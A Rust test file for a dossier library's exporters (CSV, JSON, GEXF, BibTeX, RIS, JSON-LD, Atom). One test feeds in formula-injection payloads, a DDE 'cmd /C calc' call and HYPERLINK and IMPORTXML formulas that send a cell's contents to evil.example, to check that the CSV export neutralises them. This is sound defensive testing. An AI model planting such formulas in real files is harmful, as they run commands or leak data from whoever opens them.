//! What is taken along: read back by other readers, it says what the dataset says.

#![expect(clippy::unwrap_used, reason = "a test that unwraps says where it failed")]

use dossier_core::dataset::{Dataset, Id, Item, Quantity, extract, load, report};
use dossier_core::describe::receipts;
use dossier_core::export::{self, Sheet};
use dossier_core::i18n::ENGLISH;
use dossier_core::index::Index;
use dossier_core::query::{Query, Selection, codec, evaluate};
use expect_test::expect_file;
use proptest::prelude::*;
use serde_json::{Value, json};
use std::sync::LazyLock;

static SMALL: LazyLock<Dossier> = LazyLock::new(|| Dossier::of(include_bytes!("datasets/small.json")));
static SHIPPED: LazyLock<Dossier> = LazyLock::new(|| Dossier::of(include_bytes!("../../assets/dossier.json")));

/// Views that keep all, little and nothing.
const VIEWS: [&str; 6] = [
    "",
    "v=1&t=2023/2024-05",
    "v=1&with=kabulov&topics=recognition",
    "v=1&sources=anewz-2025",
    "v=1&events=visits-and-talks&actors=state",
    "v=1&q=zzz",
];

struct Dossier {
    file: String,
    dataset: Dataset,
    index: Index,
}

impl Dossier {
    fn of(file: &[u8]) -> Self {
        let dataset = load(file).map_err(|problems| report(&problems)).unwrap();
        Self { file: String::from_utf8(file.to_vec()).unwrap(), index: Index::new(&dataset), dataset }
    }

    fn selection(&self, view: &str) -> Selection {
        let (query, unknown) = codec::decode(&self.dataset, view);
        assert_eq!(unknown, Vec::<String>::new());
        evaluate(&self.dataset, &self.index, &query)
    }

    /// A dossier whose texts are these, wherever text is free.
    fn saying(texts: &[String]) -> Self {
        let mut file: Value = serde_json::from_slice(include_bytes!("datasets/small.json")).unwrap();
        let event = file["events"][0].clone();
        let actor = file["actors"][1].clone();
        for (at, text) in texts.iter().enumerate() {
            let mut event = event.clone();
            event["id"] = format!("event-{at}").into();
            event["precedes"] = json!([]);
            for field in ["title", "summary", "place"] {
                event[field] = text.as_str().into();
            }
            file["events"].as_array_mut().unwrap().push(event);
            let mut actor = actor.clone();
            actor["id"] = format!("actor-{at}").into();
            for field in ["name", "summary"] {
                actor[field] = text.as_str().into();
            }
            file["actors"].as_array_mut().unwrap().push(actor);
        }
        Self::of(file.to_string().as_bytes())
    }
}

/// The cells of a table by the names of their columns, read by another reader; an apostrophe that keeps a text from being a
/// formula is taken away.
fn table(text: &str) -> Vec<Vec<(String, String)>> {
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let columns: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let plain = |cell: &str| match cell.strip_prefix('\'') {
        Some(rest) if begins_formula(rest) => rest.to_owned(),
        _ => cell.to_owned(),
    };
    reader.records().map(|row| columns.iter().cloned().zip(row.unwrap().iter().map(plain)).collect()).collect()
}

/// What spreadsheets take for a formula, as plainly as it can be said.
fn begins_formula(cell: &str) -> bool {
    let rest = cell.trim_start_matches([' ', '\u{a0}', '\u{3000}', '\'', '"', '\u{200b}', '\u{200e}', '\u{200f}']);
    ["=", "+", "-", "@", "＝", "＋", "－", "＠"].iter().any(|sign| rest.starts_with(sign))
}

fn cell<'a>(row: &'a [(String, String)], column: &str) -> &'a str {
    row.iter().find(|(name, _)| name == column).map(|(_, cell)| cell.as_str()).unwrap()
}

#[test]
fn tables_read_back_as_the_dataset() {
    let Dossier { dataset, .. } = &*SHIPPED;
    for view in VIEWS {
        let selection = SHIPPED.selection(view);
        let read = |sheet| table(&export::csv(dataset, &selection, sheet, sheet == Sheet::Claims));
        let kept = |sheet: Sheet, ids: Vec<&str>| {
            let rows = read(sheet);
            assert_eq!(rows.iter().map(|row| cell(row, "id")).collect::<Vec<_>>(), ids, "{view} {}", sheet.key());
            rows
        };

        let actors: Vec<_> = dataset.actors.iter().filter(|(id, _)| selection.actors.contains(id.index())).collect();
        for (row, (_, actor)) in
            kept(Sheet::Actors, actors.iter().map(|(_, actor)| &*actor.id).collect()).iter().zip(actors)
        {
            assert_eq!((cell(row, "name"), cell(row, "summary")), (&*actor.name, &*actor.summary));
            assert_eq!(cell(row, "kind"), dataset.vocabulary.actors[actor.kind].id);
            assert_eq!(cell(row, "country"), actor.country.map_or("", |country| &dataset.actors[country].id));
            let aliases: Vec<_> = actor.aliases.iter().map(|alias| alias.name.as_str()).collect();
            assert_eq!(cell(row, "aliases"), aliases.join("; "));
        }

        let relations: Vec<_> =
            dataset.relations.iter().filter(|(id, _)| selection.relations.contains(id.index())).collect();
        let rows = kept(Sheet::Relations, relations.iter().map(|(_, relation)| &*relation.id).collect());
        for (row, (_, relation)) in rows.iter().zip(relations) {
            assert_eq!(cell(row, "from"), dataset.actors[relation.from].id);
            assert_eq!(cell(row, "to_name"), dataset.actors[relation.to].name);
            assert_eq!((cell(row, "label"), cell(row, "status")), (&*relation.label, relation.status.word()));
            let when = relation.when.as_ref().map(|when| when.edtf.to_string());
            assert_eq!(cell(row, "when"), when.unwrap_or_default());
        }

        let events: Vec<_> = dataset.events.iter().filter(|(id, _)| selection.has_event(id.index())).collect();
        for (row, (_, event)) in
            kept(Sheet::Events, events.iter().map(|(_, event)| &*event.id).collect()).iter().zip(events)
        {
            assert_eq!((cell(row, "title"), cell(row, "summary")), (&*event.title, &*event.summary));
            let who =
                |part: &dossier_core::dataset::Participant| format!("{}:{}", dataset.actors[part.actor].id, part.role);
            let participants: Vec<_> = event.participants.iter().map(who).collect();
            assert_eq!(cell(row, "participants"), participants.join("; "));
            let evidence = cell(row, "evidence").split("; ").count();
            assert_eq!(evidence, event.evidence.len());
        }

        let claims: Vec<_> = dataset.claims.iter().filter(|(id, _)| selection.claims.contains(id.index())).collect();
        for (row, (_, claim)) in
            kept(Sheet::Claims, claims.iter().map(|(_, claim)| &*claim.id).collect()).iter().zip(claims)
        {
            assert_eq!(cell(row, "speaker"), claim.speaker.map_or("", |speaker| &dataset.actors[speaker].id));
            assert_eq!(cell(row, "stance"), dataset.vocabulary.stances[claim.stance].id);
            let about: Vec<_> = claim.about.iter().map(|&item| dataset.name_of(item)).collect();
            assert_eq!(cell(row, "about"), about.join("; "));
        }

        for row in read(Sheet::Figures) {
            let Some(Item::Figure(id)) = dataset.find(cell(&row, "id")) else { panic!("{row:?}") };
            let number = |column| cell(&row, column).parse::<f64>().unwrap();
            let quantity = match dataset.figures[id].quantity {
                Quantity::Number(number) => (number, number),
                Quantity::Range(least, most) => (least, most),
            };
            assert_eq!((number("least"), number("most")), quantity, "{row:?}");
        }
    }
    let all = SHIPPED.selection("");
    assert_eq!(table(&export::csv(dataset, &all, Sheet::Figures, false)).len(), dataset.figures.len());
}

#[test]
fn a_table_of_a_tiny_dossier() {
    let mut text = String::new();
    for sheet in Sheet::ALL {
        text.push_str(&export::csv(&SMALL.dataset, &SMALL.selection(""), sheet, false).replace("\r\n", "\n"));
        text.push('\n');
    }
    expect_file!["exports/small.csv"].assert_eq(&text);
    let marked = export::csv(&SMALL.dataset, &SMALL.selection(""), Sheet::Actors, true);
    assert!(marked.starts_with("\u{feff}id,") && marked.ends_with("\r\n"));
}

/// Two hundred ways to begin a formula that a file may hold as text.
fn payloads() -> Vec<String> {
    let bodies = [
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"https://evil.example?x=\"&A1,\"more\")",
        "1+1",
        "SUM(1,2)*cmd|'/C calc'!A0",
        "IMPORTXML(CONCAT(\"https://evil.example/?v=\",A1),\"//a\")",
        "",
        "=1",
        "2024-01-01",
    ];
    let leads = [
        "=",
        "+",
        "-",
        "@",
        "＝",
        "＋",
        "－",
        "＠",
        "=-",
        "+@",
        "'=",
        "\"=",
        " =",
        "''+",
        "\u{a0}-",
        "\u{3000}@",
        "\u{200f}=",
        "\u{200e}+",
        "'\"' =",
        "\u{200b}=",
        "\"+",
        "' -",
        "@=",
        "-+",
        "=\"",
    ];
    leads.iter().flat_map(|lead| bodies.iter().map(move |body| format!("{lead}{body}"))).collect()
}

#[test]
fn two_hundred_formulas_are_texts() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 200);
    let Dossier { dataset, index, .. } = Dossier::saying(&payloads);
    let selection = evaluate(&dataset, &index, &Query::default());
    for sheet in [Sheet::Actors, Sheet::Events, Sheet::Relations] {
        let text = export::csv(&dataset, &selection, sheet, true);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        for row in reader.records().map(Result::unwrap) {
            for cell in &row {
                assert!(cell.starts_with('\'') || !begins_formula(cell), "{cell}");
                let first = cell.chars().next().unwrap_or('a');
                assert!(!"=+-@＝＋－＠\t\r\n".contains(first), "{cell}");
            }
        }
    }
    let rows = table(&export::csv(&dataset, &selection, Sheet::Events, false));
    let titles: Vec<_> = rows.iter().skip(3).map(|row| cell(row, "title")).collect();
    assert_eq!(titles, payloads, "each comes back as it was");
}

/// An entry of a file without its lists of references that a part may shorten.
fn entry(file: &Value, section: &str, id: &str) -> Value {
    let entries = file[section].as_array().unwrap();
    let mut entry = entries.iter().find(|entry| entry["id"] == id).unwrap().clone();
    for list in ["about", "touches", "follows", "precedes"] {
        entry.as_object_mut().unwrap().remove(list);
    }
    if let Some(when) = entry.get_mut("when").and_then(Value::as_object_mut) {
        when.remove("from");
    }
    entry
}

#[test]
fn everything_is_the_file_as_it_stands() {
    for dossier in [&*SMALL, &*SHIPPED] {
        assert_eq!(export::json(&dossier.file, &dossier.dataset, &dossier.selection("")), dossier.file);
    }
}

#[test]
fn a_view_is_a_file_with_all_that_it_keeps_and_needs() {
    for view in VIEWS.iter().skip(1) {
        let selection = SHIPPED.selection(view);
        let Dossier { dataset, file, .. } = &*SHIPPED;
        let text = export::json(file, dataset, &selection);
        let part = load(text.as_bytes()).map_err(|problems| report(&problems)).unwrap();
        let (whole, written): (Value, Value) =
            (serde_json::from_str(file).unwrap(), serde_json::from_str(&text).unwrap());
        for item in dataset.items() {
            let (section, is_kept) = match item {
                Item::Actor(id) => ("actors", selection.actors.contains(id.index())),
                Item::Relation(id) => ("relations", selection.relations.contains(id.index())),
                Item::Event(id) => ("events", selection.has_event(id.index())),
                Item::Claim(id) => ("claims", selection.claims.contains(id.index())),
                _ => continue,
            };
            let name = dataset.name_of(item);
            if is_kept {
                assert_eq!(entry(&written, section, name), entry(&whole, section, name), "{view}");
            } else if section != "actors" {
                assert!(part.find(name).is_none(), "{view}: {name}");
            }
        }
        assert_eq!((part.stories.len(), &part.vocabulary), (0, &dataset.vocabulary), "{view}");
    }
}

#[test]
fn a_part_names_nothing_that_is_left_out_and_keeps_the_rest_as_it_was_written() {
    let text = extract(&SMALL.file, &["cheap", "flood"]);
    assert!(!text.contains("\"flood\"") && text.contains("12.5"), "{text}");
    let part = load(text.as_bytes()).map_err(|problems| report(&problems)).unwrap();
    assert_eq!((part.events.len(), part.claims.len(), part.figures.len()), (2, 0, 1));
    assert_eq!(part.accounts.rows()[0].touches.len(), 1);
    assert_eq!(extract("no JSON", &["flood"]), "no JSON");
    assert_eq!(extract(&format!("\u{feff}{}", SMALL.file), &["cheap", "flood"]), text);
}

#[test]
fn a_topic_that_bears_the_name_of_an_item_stays() {
    let file = SMALL.file.replace("\"money\"", "\"flood\"");
    let part = load(extract(&file, &["flood"]).as_bytes()).map_err(|problems| report(&problems)).unwrap();
    assert_eq!((part.vocabulary.topics.len(), part.relations.rows()[0].topics.len(), part.events.len()), (2, 1, 2));
}

proptest! {
    #[test]
    fn any_view_is_a_dataset_of_its_own(from in 1998..2026, years in 0..4, with in 0..135_usize, is_with: bool, source in 0..6_usize) {
        let Dossier { dataset, index, file } = &*SHIPPED;
        let with = if is_with { format!("&with={}", dataset.actors.rows()[with].id) } else { String::new() };
        let source = dataset.sources.rows().get(source).map_or(String::new(), |source| format!("&sources={}", source.id));
        let view = format!("v=1&t={from}/{}{with}{source}", from + years);
        let (query, unknown) = codec::decode(dataset, &view);
        prop_assert_eq!(unknown, Vec::<String>::new());
        let selection = evaluate(dataset, index, &query);
        let part = load(export::json(file, dataset, &selection).as_bytes());
        let part = part.map_err(|problems| TestCaseError::fail(report(&problems)))?;
        prop_assert_eq!(part.relations.len(), selection.relations.count());
        prop_assert_eq!(part.claims.len(), selection.claims.count());
    }
}

#[test]
fn a_network_has_its_actors_links_and_spells() {
    let Dossier { dataset, .. } = &*SHIPPED;
    for view in VIEWS {
        let selection = SHIPPED.selection(view);
        let text = export::gexf(dataset, &selection);
        let file = roxmltree::Document::parse(&text).unwrap();
        let all = |name: &'static str| file.descendants().filter(move |node| node.has_tag_name(name));
        assert_eq!(all("node").count(), selection.actors.count(), "{view}");
        assert_eq!(all("edge").count(), selection.relations.count(), "{view}");
        for edge in all("edge") {
            let Some(Item::Relation(id)) = dataset.find(edge.attribute("id").unwrap()) else { panic!("{edge:?}") };
            let relation = &dataset.relations[id];
            assert_eq!(edge.attribute("source").unwrap(), dataset.actors[relation.from].id);
            assert_eq!(edge.attribute("target").unwrap(), dataset.actors[relation.to].id);
            assert_eq!(edge.attribute("label").unwrap(), relation.label);
            assert!(all("node").any(|node| node.attribute("id") == edge.attribute("target")));
            let spells = edge.descendants().filter(|node| node.has_tag_name("spell")).count();
            assert_eq!(spells, usize::from(relation.when.is_some()), "{}", relation.id);
        }
    }
}

#[test]
fn a_network_of_a_tiny_dossier() {
    expect_file!["exports/small.gexf"]
        .assert_eq(&export::gexf(&SMALL.dataset, &SMALL.selection("")).replace("><", ">\n<"));
}

/// Titles and names that other formats may trip over.
const DIFFICULT: [&str; 8] = [
    "{Braces} and a lone } or {",
    "50 % of \"all\" & 5_000 #1 $2 ~x^2 \\end{document}",
    "</script><!-- <b>bold</b>",
    "Сотрудничество с «Талибаном»",
    "متقی: «طالبان»\u{200f} (2024)",
    "日本語の題名 😀",
    "Smith and Sons, Ltd. and others",
    "  TY  - ER  - ",
];

/// A dossier whose sources bear these titles, by authors of the same names.
fn cited(titles: &[&str]) -> Dossier {
    let mut file: Value = serde_json::from_slice(include_bytes!("datasets/small.json")).unwrap();
    for (at, title) in titles.iter().enumerate() {
        let mut source = file["sources"][at % 2].clone();
        source["id"] = format!("source-{at}").into();
        source["title"] = (*title).into();
        source["authors"] = json!([title, "Ada Brook"]);
        source["address"] = format!("https://example.org/{at}/{{x}}?a=1&b=%20#c_d~e").into();
        file["sources"].as_array_mut().unwrap().push(source);
    }
    Dossier::of(file.to_string().as_bytes())
}

#[test]
fn sources_for_reference_managers() {
    let dossier = cited(&DIFFICULT);
    let (dataset, selection) = (&dossier.dataset, dossier.selection(""));
    expect_file!["exports/difficult.bib"].assert_eq(&export::bibtex(dataset, &export::sources(dataset, &selection)));
    expect_file!["exports/difficult.ris"]
        .assert_eq(&export::ris(dataset, &export::sources(dataset, &selection)).replace("\r\n", "\n"));
    let csl = export::csl(dataset, &export::sources(dataset, &selection));
    expect_file!["exports/difficult.csl.json"].assert_eq(&csl);
    let items: Vec<Value> = serde_json::from_str(&csl).unwrap();
    let titles: Vec<_> = items.iter().map(|item| item["title"].as_str().unwrap()).collect();
    assert_eq!(titles, dataset.sources.rows().iter().map(|source| source.title.as_str()).collect::<Vec<_>>());
    let (_, selection) = (dataset, SHIPPED.selection(""));
    expect_file!["exports/shipped.bib"]
        .assert_eq(&export::bibtex(&SHIPPED.dataset, &export::sources(&SHIPPED.dataset, &selection)));
}

#[test]
fn no_text_opens_or_ends_a_field_of_bibtex() {
    let dossier = cited(&DIFFICULT);
    let text = export::bibtex(&dossier.dataset, &export::sources(&dossier.dataset, &dossier.selection("")));
    let mut depth = 0_i32;
    let mut entries = 0;
    for letter in text.chars() {
        match letter {
            '{' => depth += 1,
            '}' => depth -= 1,
            _ => {}
        }
        assert!(depth >= 0);
        entries += i32::from(letter == '@' && depth == 0);
    }
    assert_eq!((depth, entries), (0, dossier.dataset.sources.len() as i32));
}

#[test]
fn only_sources_of_what_is_kept_are_cited() {
    let selection = SHIPPED.selection("v=1&q=zzz");
    let items: Vec<Value> =
        serde_json::from_str(&export::csl(&SHIPPED.dataset, &export::sources(&SHIPPED.dataset, &selection))).unwrap();
    let ids: Vec<_> = items.iter().map(|item| item["id"].as_str().unwrap()).collect();
    assert!(ids.len() < SHIPPED.dataset.sources.len() && ids.contains(&"memri-2024"), "{ids:?}");
}

#[test]
fn citations_can_be_pasted() {
    let evidence = |item: &str| SMALL.dataset.evidence(SMALL.dataset.find(item).unwrap())[0].clone();
    for (item, text) in [
        (
            "opening",
            "B. Lund, “Bridge opens at last”, Arden Gazette, 3 May 2004, paragraph 2. https://gazette.example/bridge",
        ),
        ("cost", "“What the bridge cost”, Arden Herald, about June 2004 (date inferred), paragraph 2."),
    ] {
        let receipts = receipts(&SMALL.dataset, &ENGLISH, &[evidence(item)], None);
        assert_eq!(receipts[0].pasted, text);
    }
}

#[test]
fn search_engines_read_the_dataset_and_every_event() {
    for Dossier { dataset, index, .. } in
        [&*SHIPPED, &cited(&DIFFICULT), &Dossier::saying(&DIFFICULT.map(str::to_owned))]
    {
        let text = export::json_ld(dataset, index, &ENGLISH, Some("https://example.org/"));
        assert!(!text.contains(['<', '\n']), "a script element is not ended");
        let graph: Value = serde_json::from_str(&text).unwrap();
        let [described, list] = graph["@graph"].as_array().unwrap().as_slice() else { panic!("{text}") };
        assert_eq!(described["name"], dataset.title.as_str());
        assert_eq!(described["citation"].as_array().unwrap().len(), dataset.sources.len());
        let events = list["itemListElement"].as_array().unwrap();
        assert_eq!(
            (list["numberOfItems"].as_u64(), events.len()),
            (Some(dataset.events.len() as u64), dataset.events.len())
        );
        for (at, (entry, &id)) in events.iter().zip(index.in_time.iter().chain(&index.undated)).enumerate() {
            assert_eq!(entry["position"], at + 1);
            assert_eq!(entry["item"]["name"], dataset.events[id].title.as_str());
        }
    }
}

#[test]
fn a_tiny_dossier_in_the_words_of_schema_org() {
    let text = export::json_ld(&SMALL.dataset, &SMALL.index, &ENGLISH, None);
    let value: Value = serde_json::from_str(&text).unwrap();
    expect_file!["exports/small.jsonld"].assert_eq(&serde_json::to_string_pretty(&value).unwrap());
}

#[test]
fn a_feed_has_every_event_under_a_name_of_its_own() {
    for Dossier { dataset, index, .. } in [&*SHIPPED, &Dossier::saying(&DIFFICULT.map(str::to_owned))] {
        for (address, page) in [(None, "./#"), (Some("https://example.org/d/"), "https://example.org/d/#")] {
            let text = export::feed(dataset, index, &ENGLISH, address);
            let file = roxmltree::Document::parse(&text).unwrap();
            let root = file.root_element();
            assert!(root.has_tag_name(("http://www.w3.org/2005/Atom", "feed")));
            let child = |node: roxmltree::Node<'_, '_>, name: &str| {
                let found: Vec<_> = node.children().filter(|child| child.tag_name().name() == name).collect();
                assert!(!found.is_empty(), "{name}");
                found[0].text().map_or_else(|| found[0].attribute("href").unwrap().to_owned(), str::to_owned)
            };
            let entries: Vec<_> = root.children().filter(|node| node.tag_name().name() == "entry").collect();
            assert_eq!(entries.len(), dataset.events.len());
            let mut ids: Vec<_> = entries.iter().chain([&root]).map(|&entry| child(entry, "id")).collect();
            ids.sort();
            ids.dedup();
            assert_eq!(ids.len(), entries.len() + 1);
            for entry in entries {
                let link = child(entry, "link");
                let event = link.strip_prefix(page).and_then(|link| link.strip_prefix("v=1&sel=")).unwrap();
                let Some(Item::Event(id)) = dataset.find(event) else { panic!("{event}") };
                assert_eq!(child(entry, "title"), dataset.events[id].title);
                assert!(child(entry, "summary").contains(&dataset.events[id].summary));
                let urn = child(entry, "id");
                let digits = urn.strip_prefix("urn:uuid:").unwrap();
                assert_eq!((digits.len(), &digits[14..15]), (36, "8"), "{urn}");
            }
        }
    }
}
